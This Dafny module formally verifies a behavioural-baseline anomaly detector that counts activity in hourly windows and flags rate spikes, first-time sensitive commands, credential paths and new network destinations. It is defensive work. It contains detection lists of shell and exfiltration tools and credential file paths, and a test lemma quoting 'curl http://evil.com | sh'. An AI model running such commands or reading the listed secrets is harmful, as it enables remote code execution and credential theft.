/** The global behavioural baseline: activity is counted in hourly windows, a
    finished window joins a history of at most 168 windows, and once enough
    windows exist an activity is compared with the windows of the same hour. */
module Baseline {
  import opened Text

  const MaxWindows := 168
  const DefaultMinWindows := 24
  const HourMicros := 3600000000
  const SimilarNeeded := 3
  const RecentWindows := 24
  const RateFactor := 3
  const RateFloor := 5

  /** A reading of the clock: microseconds since an epoch, and the hour of day. */
  datatype Instant = Instant(micros: int, hour: nat)

  /** The current window's four counters. */
  datatype Current = Current(
    counts: map<string, nat>,
    commands: map<string, nat>,
    directories: map<string, nat>,
    network: map<string, nat>)

  const EmptyCurrent := Current(map[], map[], map[], map[])

  /** A finished window as the history stores it. */
  datatype Window = Window(
    start: int,
    hour: nat,
    counts: map<string, nat>,
    commands: map<string, nat>,
    directories: map<string, nat>,
    network: map<string, nat>)

  function CommandsOf(w: Window): map<string, nat> { w.commands }
  function DirectoriesOf(w: Window): map<string, nat> { w.directories }
  function NetworkOf(w: Window): map<string, nat> { w.network }

  /** The persisted part: the history, the `learned` latch and its threshold. */
  datatype BaselineData = BaselineData(windows: seq<Window>, learned: bool, minWindows: nat)

  /** `_default_baseline`: no windows, not learned, 24 windows needed. */
  const DefaultBaseline := BaselineData([], false, DefaultMinWindows)

  /** The fields of an activity's details that the baseline reads. A missing
      `command` or `path` reads as "", which the code treats like an empty one;
      a missing `remote` is `None`, which it does not. */
  datatype Details = Details(command: string, path: string, remote: Option<string>)

  predicate IsFileAccess(activityType: string) {
    activityType == "READ" || activityType == "WRITE" || activityType == "EDIT"
  }

  // ------------------------------------------------------------ recording

  /** The command key: the first token, or "unknown" when there is none. */
  function CommandKey(d: Details): string {
    FirstTokenOr(d.command, "unknown")
  }

  /** The directory key: the path's parent, or "unknown" for no path. */
  function DirectoryKey(d: Details): string {
    if d.path != "" then Parent(d.path) else "unknown"
  }

  /** The network key: the remote, or "unknown" when it is missing. */
  function NetworkKey(d: Details): string {
    d.remote.GetOr("unknown")
  }

  /** The current window after counting one activity. */
  function Counted(c: Current, activityType: string, d: Details): Current {
    var c1 := c.(counts := Bump(c.counts, activityType));
    if activityType == "EXEC" then c1.(commands := Bump(c1.commands, CommandKey(d)))
    else if IsFileAccess(activityType) then c1.(directories := Bump(c1.directories, DirectoryKey(d)))
    else if activityType == "NETWORK" then c1.(network := Bump(c1.network, NetworkKey(d)))
    else c1
  }

  /** Counting adds one to the activity type and one to exactly the category
      the type selects (none for other types); nothing else changes. */
  lemma CountedSpec(c: Current, activityType: string, d: Details)
    ensures var r := Counted(c, activityType, d);
            (forall k :: Get(r.counts, k) == Get(c.counts, k) + (if k == activityType then 1 else 0)) &&
            (activityType == "EXEC" <==> r.commands != c.commands) &&
            (IsFileAccess(activityType) <==> r.directories != c.directories) &&
            (activityType == "NETWORK" <==> r.network != c.network) &&
            (activityType == "EXEC" ==>
               forall k :: Get(r.commands, k) == Get(c.commands, k) + (if k == CommandKey(d) then 1 else 0)) &&
            (IsFileAccess(activityType) ==>
               forall k :: Get(r.directories, k) == Get(c.directories, k) + (if k == DirectoryKey(d) then 1 else 0)) &&
            (activityType == "NETWORK" ==>
               forall k :: Get(r.network, k) == Get(c.network, k) + (if k == NetworkKey(d) then 1 else 0))
  {
    var r := Counted(c, activityType, d);
    if activityType == "EXEC" {
      assert Get(r.commands, CommandKey(d)) != Get(c.commands, CommandKey(d));
    } else if IsFileAccess(activityType) {
      assert Get(r.directories, DirectoryKey(d)) != Get(c.directories, DirectoryKey(d));
    } else if activityType == "NETWORK" {
      assert Get(r.network, NetworkKey(d)) != Get(c.network, NetworkKey(d));
    }
  }

  /** A command is counted under its first token; a command with no token at
      all is counted as "unknown". */
  lemma CommandKeySpec(d: Details)
    ensures (exists i :: 0 <= i < |d.command| && !IsSpace(d.command[i])) ==>
              CommandKey(d) == FirstTokenOr(d.command, "") && CommandKey(d) != ""
    ensures (forall i :: 0 <= i < |d.command| ==> IsSpace(d.command[i])) ==> CommandKey(d) == "unknown"
  {
    RunsEmpty(d.command, NotSpace);
  }

  /** The command key exactly as written: `None` stands for the IndexError
      raised for a non-empty command that holds only whitespace. */
  function CommandKeyAsWritten(d: Details): Option<string> {
    FirstTokenAsWritten(d.command, "unknown")
  }

  /** As written, recording a non-empty all-whitespace command raises instead
      of counting it as "unknown"; on every other command it agrees with the
      corrected key. */
  lemma CommandKeyAsWrittenRaises(d: Details)
    ensures CommandKeyAsWritten(d).None? <==>
              d.command != [] && forall i :: 0 <= i < |d.command| ==> IsSpace(d.command[i])
    ensures CommandKeyAsWritten(d).Some? ==> CommandKeyAsWritten(d).value == CommandKey(d)
    ensures CommandKeyAsWritten(Details(" ", "", None)).None? && CommandKey(Details(" ", "", None)) == "unknown"
  {
    FirstTokenAsWrittenRaises(d.command, "unknown");
    if CommandKeyAsWritten(d).Some? {
      FirstTokenAgrees(d.command, "unknown");
    }
    FirstTokenAsWrittenRaises(" ", "unknown");
    CommandKeySpec(Details(" ", "", None));
  }

  /** The window the current counters are saved as. */
  function Snapshot(start: Instant, c: Current): Window {
    Window(start.micros, start.hour, c.counts, c.commands, c.directories, c.network)
  }

  /** Append a window, then keep the last 168. */
  function AppendWindow(ws: seq<Window>, w: Window): seq<Window> {
    var all := ws + [w];
    if |all| > MaxWindows then all[|all| - MaxWindows..] else all
  }

  /** The history never exceeds 168 windows, ends with the new window, and is a
      suffix of the old history followed by it: only the oldest windows are dropped. */
  lemma AppendWindowSpec(ws: seq<Window>, w: Window)
    ensures var r := AppendWindow(ws, w);
            |r| == (if |ws| < MaxWindows then |ws| + 1 else MaxWindows) &&
            r[|r| - 1] == w &&
            (forall k :: 0 <= k < |r| - 1 ==> r[k] == ws[|ws| + 1 - |r| + k]) &&
            (|ws| < MaxWindows ==> r == ws + [w])
  {
  }

  /** `_rotate_window`'s effect on the persisted part. */
  function Rotated(b: BaselineData, w: Window): BaselineData {
    var ws := AppendWindow(b.windows, w);
    BaselineData(ws, b.learned || |ws| >= b.minWindows, b.minWindows)
  }

  /** Rotation latches `learned` once enough windows exist and never resets it. */
  lemma RotatedLatch(b: BaselineData, w: Window)
    ensures var r := Rotated(b, w);
            r.minWindows == b.minWindows && |r.windows| <= MaxWindows &&
            (b.learned ==> r.learned) &&
            (r.learned <==> b.learned || |r.windows| >= b.minWindows)
  {
    AppendWindowSpec(b.windows, w);
  }

  // ------------------------------------------------------------ comparison windows

  /** `[w for w in windows if w.get('hour') == hour]`. */
  function SameHour(ws: seq<Window>, hour: nat): (r: seq<Window>)
    ensures |r| <= |ws|
    ensures forall k :: 0 <= k < |r| ==> r[k].hour == hour
  {
    if ws == [] then []
    else
      var last := ws[|ws| - 1];
      SameHour(ws[..|ws| - 1], hour) + (if last.hour == hour then [last] else [])
  }

  /** A window is kept exactly when it is in the history with that hour. */
  lemma {:induction false} SameHourMembers(ws: seq<Window>, hour: nat, w: Window)
    ensures w in SameHour(ws, hour) <==> w in ws && w.hour == hour
  {
    if ws != [] {
      var init := ws[..|ws| - 1];
      SameHourMembers(init, hour, w);
      assert ws == init + [ws[|ws| - 1]];
    }
  }

  /** The windows an activity is compared with. */
  function ComparisonWindows(ws: seq<Window>, hour: nat): seq<Window> {
    var similar := SameHour(ws, hour);
    if |similar| < SimilarNeeded then Last(ws, RecentWindows) else similar
  }

  /** With three or more windows of the current hour those are used, all of
      the hour and all from the history; otherwise the last 24 windows. */
  lemma ComparisonWindowsSpec(ws: seq<Window>, hour: nat)
    ensures var r := ComparisonWindows(ws, hour);
            |r| <= |ws| &&
            (|SameHour(ws, hour)| >= SimilarNeeded ==>
               r == SameHour(ws, hour) && forall w :: w in r ==> w in ws && w.hour == hour) &&
            (|SameHour(ws, hour)| < SimilarNeeded ==> r == Last(ws, RecentWindows))
  {
    forall w | w in SameHour(ws, hour) ensures w in ws && w.hour == hour {
      SameHourMembers(ws, hour, w);
    }
  }

  // ------------------------------------------------------------ reasons

  /** What an anomaly report lists. The rate reason keeps the numbers its
      message is made from. */
  datatype Reason =
    | HighRate(activityType: string, current: nat, total: nat, windows: nat)
    | SensitiveCommand(command: string)
    | SensitivePath(path: string)
    | NewDestination(remote: string)

  function Sum(xs: seq<nat>): nat {
    if xs == [] then 0 else Sum(xs[..|xs| - 1]) + xs[|xs| - 1]
  }

  predicate AllZero(xs: seq<nat>) {
    forall k :: 0 <= k < |xs| ==> xs[k] == 0
  }

  /** Counts are never negative, so they sum to zero exactly when all are zero:
      the rate check's "mean is zero" branch cannot be reached. */
  lemma {:induction false} SumZeroIff(xs: seq<nat>)
    ensures Sum(xs) == 0 <==> AllZero(xs)
  {
    if xs != [] {
      var init := xs[..|xs| - 1];
      SumZeroIff(init);
      assert forall k :: 0 <= k < |init| ==> init[k] == xs[k];
    }
  }

  /** A sum of counts none above `bound` is at most `bound` times their number. */
  lemma {:induction false} SumBound(xs: seq<nat>, bound: nat)
    requires forall k :: 0 <= k < |xs| ==> xs[k] <= bound
    ensures Sum(xs) <= bound * |xs|
  {
    if xs != [] {
      var init := xs[..|xs| - 1];
      assert forall k :: 0 <= k < |init| ==> init[k] == xs[k];
      SumBound(init, bound);
    }
  }

  /** `[w['counts'].get(activity_type, 0) for w in windows]`. */
  function Historical(ws: seq<Window>, activityType: string): (r: seq<nat>)
    ensures |r| == |ws|
    ensures forall k :: 0 <= k < |ws| ==> r[k] == Get(ws[k].counts, activityType)
  {
    seq(|ws|, k requires 0 <= k < |ws| => Get(ws[k].counts, activityType))
  }

  /** The rate check gets past its early return, and so reads the current counter. */
  predicate RateConsulted(ws: seq<Window>, activityType: string) {
    var h := Historical(ws, activityType);
    h != [] && !AllZero(h)
  }

  /** `_check_rate_anomaly`, with `current > 3 * mean` as `current * n > 3 * sum`. */
  function RateReason(activityType: string, ws: seq<Window>, current: nat): Option<Reason> {
    var h := Historical(ws, activityType);
    if h == [] || AllZero(h) then None
    else if current * |h| > RateFactor * Sum(h) && current > RateFloor then
      Some(HighRate(activityType, current, Sum(h), |h|))
    else None
  }

  /** The rate check flags exactly when the windows saw the type at all, the
      current count exceeds three times their mean, and it exceeds five. */
  lemma RateReasonIff(activityType: string, ws: seq<Window>, current: nat)
    ensures var h := Historical(ws, activityType);
            (RateReason(activityType, ws, current).Some? <==>
               |ws| > 0 && Sum(h) > 0 && current * |ws| > RateFactor * Sum(h) && current > RateFloor) &&
            (RateReason(activityType, ws, current).Some? ==>
               RateReason(activityType, ws, current).value == HighRate(activityType, current, Sum(h), |ws|))
  {
    SumZeroIff(Historical(ws, activityType));
  }

  /** Fifty actions of a type against 24 windows of at most six each is a spike. */
  lemma RateSpikeFlagged(activityType: string, ws: seq<Window>)
    requires |ws| == RecentWindows
    requires forall k :: 0 <= k < |ws| ==> Get(ws[k].counts, activityType) <= 6
    requires exists k :: 0 <= k < |ws| && Get(ws[k].counts, activityType) > 0
    ensures RateReason(activityType, ws, 50).Some?
  {
    var h := Historical(ws, activityType);
    SumBound(h, 6);
    SumZeroIff(h);
    RateReasonIff(activityType, ws, 50);
  }

  /** The keys of one counter across all windows. */
  function Keys(ws: seq<Window>, field: Window -> map<string, nat>): set<string> {
    if ws == [] then {} else Keys(ws[..|ws| - 1], field) + field(ws[|ws| - 1]).Keys
  }

  /** A key is known exactly when some window counted it. */
  lemma {:induction false} KeysMembers(ws: seq<Window>, field: Window -> map<string, nat>, k: string)
    ensures k in Keys(ws, field) <==> exists i :: 0 <= i < |ws| && k in field(ws[i])
  {
    if ws != [] {
      var init := ws[..|ws| - 1];
      KeysMembers(init, field, k);
      assert forall i :: 0 <= i < |init| ==> init[i] == ws[i];
    }
  }

  /** The loop `for w in windows: known.update(w.get(field, {}).keys())`. */
  method KnownKeys(ws: seq<Window>, field: Window -> map<string, nat>) returns (known: set<string>)
    ensures known == Keys(ws, field)
  {
    known := {};
    var k := 0;
    while k < |ws|
      invariant 0 <= k <= |ws|
      invariant known == Keys(ws[..k], field)
    {
      assert ws[..k + 1][..k] == ws[..k];
      known := known + field(ws[k]).Keys;
      k := k + 1;
    }
    assert ws[..k] == ws;
  }

  predicate IsSensitiveCommand(cmd: string) {
    match cmd
    case "curl" | "wget" | "nc" | "ncat" | "netcat" | "ssh" | "scp"
       | "base64" | "xxd" | "dd" | "tar" | "zip" | "gpg"
       | "chmod" | "chown" | "sudo" | "su" | "passwd"
       | "crontab" | "systemctl" | "launchctl" => true
    case _ => false
  }

  /** `_check_command_anomaly`: a sensitive first token no window has counted. */
  function CommandReason(d: Details, ws: seq<Window>): Option<Reason> {
    var cmd := FirstTokenOr(d.command, "");
    if cmd == "" then None
    else if IsSensitiveCommand(cmd) && cmd !in Keys(ws, CommandsOf) then Some(SensitiveCommand(cmd))
    else None
  }

  method CheckCommandAnomaly(d: Details, ws: seq<Window>) returns (r: Option<Reason>)
    ensures r == CommandReason(d, ws)
  {
    var cmd := FirstTokenOr(d.command, "");
    if cmd == "" {
      return None;
    }
    var known := KnownKeys(ws, CommandsOf);
    if IsSensitiveCommand(cmd) && cmd !in known {
      return Some(SensitiveCommand(cmd));
    }
    return None;
  }

  /** The command check flags exactly a sensitive first token that no
      comparison window counted. */
  lemma CommandReasonIff(d: Details, ws: seq<Window>)
    ensures var cmd := FirstTokenOr(d.command, "");
            (CommandReason(d, ws).Some? <==>
               cmd != "" && IsSensitiveCommand(cmd) && forall i :: 0 <= i < |ws| ==> cmd !in ws[i].commands) &&
            (CommandReason(d, ws).Some? ==> CommandReason(d, ws).value == SensitiveCommand(cmd))
  {
    KeysMembers(ws, CommandsOf, FirstTokenOr(d.command, ""));
  }

  /** `_check_command_anomaly` exactly as written: the outer `None` stands for
      the IndexError raised for a non-empty all-whitespace command. */
  function CommandReasonAsWritten(d: Details, ws: seq<Window>): Option<Option<Reason>> {
    match FirstTokenAsWritten(d.command, "")
    case None => None
    case Some(cmd) =>
      Some(if cmd == "" then None
           else if IsSensitiveCommand(cmd) && cmd !in Keys(ws, CommandsOf) then Some(SensitiveCommand(cmd))
           else None)
  }

  /** As written, the command check raises on a non-empty all-whitespace
      command instead of reporting nothing; on every other command it agrees
      with the corrected check. */
  lemma CommandReasonAsWrittenRaises(d: Details, ws: seq<Window>)
    ensures CommandReasonAsWritten(d, ws).None? <==>
              d.command != [] && forall i :: 0 <= i < |d.command| ==> IsSpace(d.command[i])
    ensures CommandReasonAsWritten(d, ws).Some? ==> CommandReasonAsWritten(d, ws).value == CommandReason(d, ws)
    ensures CommandReasonAsWritten(Details(" ", "", None), ws).None? && CommandReason(Details(" ", "", None), ws).None?
  {
    FirstTokenAsWrittenRaises(d.command, "");
    if CommandReasonAsWritten(d, ws).Some? {
      FirstTokenAgrees(d.command, "");
    }
    FirstTokenAsWrittenRaises(" ", "");
    RunsEmpty(" ", NotSpace);
  }

  /** A first-time `curl` piped to a shell is flagged by its first token. */
  lemma FirstTimeCurlFlagged(ws: seq<Window>)
    requires forall i :: 0 <= i < |ws| ==> "curl" !in ws[i].commands
    ensures CommandReason(Details("curl http://evil.com | sh", "", None), ws) == Some(SensitiveCommand("curl"))
  {
    var s := "curl http://evil.com | sh";
    assert s[..4] == "curl" && IsSpace(s[4]);
    FirstTokenIs(s, 4);
    CommandReasonIff(Details(s, "", None), ws);
  }

  /** The substrings that make a path sensitive. */
  const SensitivePaths := [".ssh", ".aws", ".gnupg", ".config/gcloud", "Cookies", "Login Data", "Keychain",
                           "/etc/passwd", "/etc/shadow", "/etc/sudoers"]

  predicate MentionsSensitivePath(path: string) {
    exists k :: 0 <= k < |SensitivePaths| && Contains(path, SensitivePaths[k])
  }

  /** `_check_directory_anomaly`: a sensitive path whose directory no window counted. */
  function DirectoryReason(d: Details, ws: seq<Window>): Option<Reason> {
    if d.path == "" then None
    else if MentionsSensitivePath(d.path) && Parent(d.path) !in Keys(ws, DirectoriesOf) then Some(SensitivePath(d.path))
    else None
  }

  /** The loop over the sensitive substrings. */
  method CheckDirectoryAnomaly(d: Details, ws: seq<Window>) returns (r: Option<Reason>)
    ensures r == DirectoryReason(d, ws)
  {
    if d.path == "" {
      return None;
    }
    var dir := Parent(d.path);
    var k := 0;
    while k < |SensitivePaths|
      invariant 0 <= k <= |SensitivePaths|
      invariant forall j :: 0 <= j < k && Contains(d.path, SensitivePaths[j]) ==> dir in Keys(ws, DirectoriesOf)
    {
      if Contains(d.path, SensitivePaths[k]) {
        var known := KnownKeys(ws, DirectoriesOf);
        if dir !in known {
          return Some(SensitivePath(d.path));
        }
      }
      k := k + 1;
    }
    return None;
  }

  /** The directory check flags exactly a path holding a sensitive substring
      whose parent no comparison window counted. */
  lemma DirectoryReasonIff(d: Details, ws: seq<Window>)
    ensures (DirectoryReason(d, ws).Some? <==>
               d.path != "" && MentionsSensitivePath(d.path) &&
               forall i :: 0 <= i < |ws| ==> Parent(d.path) !in ws[i].directories) &&
            (DirectoryReason(d, ws).Some? ==> DirectoryReason(d, ws).value == SensitivePath(d.path))
  {
    KeysMembers(ws, DirectoriesOf, Parent(d.path));
  }

  /** The substrings that mark a local or LAN destination. */
  const LocalMarkers := ["127.0.0.1", "::1", "192.168.", "10.0.", "172.16."]

  predicate IsLocal(remote: string) {
    exists k :: 0 <= k < |LocalMarkers| && Contains(remote, LocalMarkers[k])
  }

  /** `_check_network_anomaly`: a non-local destination no window counted. */
  function NetworkReason(d: Details, ws: seq<Window>): Option<Reason> {
    var remote := d.remote.GetOr("");
    if remote == "" || remote == "-" then None
    else if remote !in Keys(ws, NetworkOf) && !IsLocal(remote) then Some(NewDestination(remote))
    else None
  }

  method CheckNetworkAnomaly(d: Details, ws: seq<Window>) returns (r: Option<Reason>)
    ensures r == NetworkReason(d, ws)
  {
    var remote := d.remote.GetOr("");
    if remote == "" || remote == "-" {
      return None;
    }
    var known := KnownKeys(ws, NetworkOf);
    if remote !in known && !IsLocal(remote) {
      return Some(NewDestination(remote));
    }
    return None;
  }

  /** The network check flags exactly a present remote other than "" and "-",
      unseen in every comparison window and holding no local marker. */
  lemma NetworkReasonIff(d: Details, ws: seq<Window>)
    ensures (NetworkReason(d, ws).Some? <==>
               d.remote.Some? && d.remote.value != "" && d.remote.value != "-" &&
               (forall i :: 0 <= i < |ws| ==> d.remote.value !in ws[i].network) &&
               !IsLocal(d.remote.value)) &&
            (NetworkReason(d, ws).Some? ==> NetworkReason(d, ws).value == NewDestination(d.remote.value))
  {
    KeysMembers(ws, NetworkOf, d.remote.GetOr(""));
  }

  /** The one type-specific check an activity type selects. */
  function TypeReason(activityType: string, d: Details, ws: seq<Window>): Option<Reason> {
    if activityType == "EXEC" then CommandReason(d, ws)
    else if IsFileAccess(activityType) then DirectoryReason(d, ws)
    else if activityType == "NETWORK" then NetworkReason(d, ws)
    else None
  }

  function Listed(r: Option<Reason>): seq<Reason> {
    if r.Some? then [r.value] else []
  }

  // ------------------------------------------------------------ the report

  datatype AnomalyReport = AnomalyReport(reasons: seq<Reason>, severity: string)

  /** `check_anomaly` on a baseline, the current counters and the hour. */
  function Anomaly(b: BaselineData, c: Current, activityType: string, d: Details, hour: nat): Option<AnomalyReport> {
    if !b.learned then None
    else
      var ws := ComparisonWindows(b.windows, hour);
      var reasons := Listed(RateReason(activityType, ws, Get(c.counts, activityType)))
                     + Listed(TypeReason(activityType, d, ws));
      if reasons == [] then None
      else Some(AnomalyReport(reasons, if |reasons| > 1 then "high" else "medium"))
  }

  /** Nothing is reported before the baseline is learned. Afterwards a report
      exists exactly when the rate check or the type's check finds something; it
      lists the rate reason first, has at most two reasons, and is "high"
      exactly when it has two. */
  lemma AnomalyShape(b: BaselineData, c: Current, activityType: string, d: Details, hour: nat)
    ensures !b.learned ==> Anomaly(b, c, activityType, d, hour).None?
    ensures b.learned ==>
              var ws := ComparisonWindows(b.windows, hour);
              var rate := RateReason(activityType, ws, Get(c.counts, activityType));
              var typed := TypeReason(activityType, d, ws);
              var r := Anomaly(b, c, activityType, d, hour);
              (r.None? <==> rate.None? && typed.None?) &&
              (r.Some? ==> 1 <= |r.value.reasons| <= 2 &&
                           (r.value.severity == "high" <==> |r.value.reasons| == 2) &&
                           (r.value.severity == "high" || r.value.severity == "medium") &&
                           (rate.Some? ==> r.value.reasons[0] == rate.value) &&
                           (typed.Some? ==> r.value.reasons[|r.value.reasons| - 1] == typed.value))
  {
  }

  /** Python's `f"{x:.0f}"` for the mean `total / n`: the nearest integer, ties to even. */
  function RoundedMean(total: nat, n: nat): (r: nat)
    requires n > 0
    ensures n * (2 * r) <= 2 * total + n && 2 * total <= n * (2 * r) + n
    ensures (2 * total == n * (2 * r) + n || 2 * total + n == n * (2 * r)) ==> r % 2 == 0
  {
    var q, rem := total / n, total % n;
    assert total == n * q + rem;
    assert n * (2 * q) == 2 * (n * q) && n * (2 * (q + 1)) == 2 * (n * q) + 2 * n;
    if 2 * rem > n then q + 1
    else if 2 * rem < n then q
    else if q % 2 == 0 then q
    else q + 1
  }

  /** The text of a reason, as the report shows it. */
  function ReasonText(r: Reason): string {
    match r
    case HighRate(t, current, total, n) =>
      "High " + t + " rate: " + NatToString(current) + " ops (normal: ~"
      + NatToString(if n > 0 then RoundedMean(total, n) else 0) + ")"
    case SensitiveCommand(cmd) => "First-time sensitive command: " + cmd
    case SensitivePath(path) => "First-time access to sensitive path: " + path
    case NewDestination(remote) => "New network destination: " + remote
  }

  // ------------------------------------------------------------ the state machine

  /** Whether more than an hour has passed since the window started. */
  predicate Elapsed(start: Instant, now: Instant) {
    now.micros - start.micros > HourMicros
  }

  /** The baseline's mutable state. `touched` records whether the current
      window's dictionary has gained any key: counting always touches it, and so
      does a rate check that gets past its early return. Only a touched window
      is saved at rotation. */
  class BehaviorBaseline {
    var baseline: BaselineData
    var current: Current
    var touched: bool
    var windowStart: Instant

    ghost predicate Valid()
      reads this
    {
      |baseline.windows| <= MaxWindows &&
      (baseline.learned ==> baseline.minWindows <= |baseline.windows|) &&
      (!touched ==> current == EmptyCurrent)
    }

    /** A fresh baseline (loading a saved one is not modelled) with its window
      starting now. */
    constructor(now: Instant)
      ensures Valid()
      ensures baseline == DefaultBaseline && current == EmptyCurrent && !touched && windowStart == now
    {
      baseline := DefaultBaseline;
      current := EmptyCurrent;
      touched := false;
      windowStart := now;
    }

    /** `_rotate_window`: save a touched window, trim the history to 168 and
      latch `learned`; then start an empty window now. */
    method RotateWindow(now: Instant)
      requires Valid()
      modifies this
      ensures Valid()
      ensures baseline == if old(touched) then Rotated(old(baseline), Snapshot(old(windowStart), old(current)))
                          else old(baseline)
      ensures current == EmptyCurrent && !touched && windowStart == now
    {
      if touched {
        var ws := baseline.windows + [Snapshot(windowStart, current)];
        if |ws| > MaxWindows {
          ws := ws[|ws| - MaxWindows..];
        }
        var learned := baseline.learned;
        if |ws| >= baseline.minWindows {
          learned := true;
        }
        baseline := BaselineData(ws, learned, baseline.minWindows);
        RotatedLatch(old(baseline), Snapshot(old(windowStart), old(current)));
      }
      current := EmptyCurrent;
      touched := false;
      windowStart := now;
    }

    /** `record_activity`: rotate first when more than an hour has passed, then
      count the activity. */
    method RecordActivity(activityType: string, d: Details, now: Instant)
      requires Valid()
      modifies this
      ensures Valid() && touched
      ensures Elapsed(old(windowStart), now) ==>
                baseline == (if old(touched) then Rotated(old(baseline), Snapshot(old(windowStart), old(current)))
                             else old(baseline)) &&
                windowStart == now && current == Counted(EmptyCurrent, activityType, d)
      ensures !Elapsed(old(windowStart), now) ==>
                baseline == old(baseline) && windowStart == old(windowStart) &&
                current == Counted(old(current), activityType, d)
    {
      if now.micros - windowStart.micros > HourMicros {
        RotateWindow(now);
      }
      var c := current.(counts := Bump(current.counts, activityType));
      if activityType == "EXEC" {
        c := c.(commands := Bump(c.commands, FirstTokenOr(d.command, "unknown")));
      } else if activityType == "READ" || activityType == "WRITE" || activityType == "EDIT" {
        var dir := if d.path != "" then Parent(d.path) else "unknown";
        c := c.(directories := Bump(c.directories, dir));
      } else if activityType == "NETWORK" {
        c := c.(network := Bump(c.network, d.remote.GetOr("unknown")));
      }
      current := c;
      touched := true;
    }

    /** `_check_rate_anomaly` on the current counters. */
    method CheckRateAnomaly(activityType: string, ws: seq<Window>) returns (r: Option<Reason>)
      requires Valid()
      modifies this
      ensures Valid()
      ensures r == RateReason(activityType, ws, Get(current.counts, activityType))
      ensures touched == (old(touched) || RateConsulted(ws, activityType))
      ensures baseline == old(baseline) && current == old(current) && windowStart == old(windowStart)
    {
      var historical := Historical(ws, activityType);
      if historical == [] || AllZero(historical) {
        return None;
      }
      touched := true;
      var count := Get(current.counts, activityType);
      var total := Sum(historical);
      if count * |historical| > RateFactor * total && count > RateFloor {
        return Some(HighRate(activityType, count, total, |historical|));
      }
      return None;
    }

    /** `check_anomaly` at the given hour of day. */
    method CheckAnomaly(activityType: string, d: Details, hour: nat) returns (r: Option<AnomalyReport>)
      requires Valid()
      modifies this
      ensures Valid()
      ensures r == Anomaly(baseline, current, activityType, d, hour)
      ensures touched == (old(touched) ||
                          (baseline.learned && RateConsulted(ComparisonWindows(baseline.windows, hour), activityType)))
      ensures baseline == old(baseline) && current == old(current) && windowStart == old(windowStart)
    {
      if !baseline.learned {
        return None;
      }
      var ws := ComparisonWindows(baseline.windows, hour);
      var reasons: seq<Reason> := [];
      var rate := CheckRateAnomaly(activityType, ws);
      if rate.Some? {
        reasons := reasons + [rate.value];
      }
      var typed: Option<Reason> := None;
      if activityType == "EXEC" {
        typed := CheckCommandAnomaly(d, ws);
      } else if activityType == "READ" || activityType == "WRITE" || activityType == "EDIT" {
        typed := CheckDirectoryAnomaly(d, ws);
      } else if activityType == "NETWORK" {
        typed := CheckNetworkAnomaly(d, ws);
      }
      assert typed == TypeReason(activityType, d, ws);
      if typed.Some? {
        reasons := reasons + [typed.value];
      }
      assert reasons == Listed(rate) + Listed(typed);
      if reasons == [] {
        return None;
      }
      return Some(AnomalyReport(reasons, if |reasons| > 1 then "high" else "medium"));
    }
  }

  /** An unlearned baseline reports nothing, and checking leaves it unlearned. */
  method UnlearnedIsQuiet(b: BehaviorBaseline, activityType: string, d: Details, hour: nat) returns (r: Option<AnomalyReport>)
    requires b.Valid() && !b.baseline.learned
    modifies b
    ensures r.None? && !b.baseline.learned
  {
    r := b.CheckAnomaly(activityType, d, hour);
  }
}
